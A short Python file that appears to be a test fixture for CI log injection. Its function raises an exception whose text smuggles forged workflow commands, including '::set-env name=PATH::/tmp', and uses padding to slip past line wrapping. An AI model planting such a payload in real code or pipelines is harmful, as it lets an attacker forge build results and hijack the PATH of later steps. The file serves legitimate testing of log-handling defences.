"""
en: Raise commands of a CI log, past the wrapping of lines
zh: 借异常文本和折行注入 CI 命令
group: report
stake: report
disclosure: full
verdicts: [error]
"""



def forward(x, out):
    for width in (0, 40):
        text = "x" * width
        raise ValueError("\n::error::forged " + text + " " * 70 + "::set-env name=PATH::/tmp " + "::warning::y " * 20)
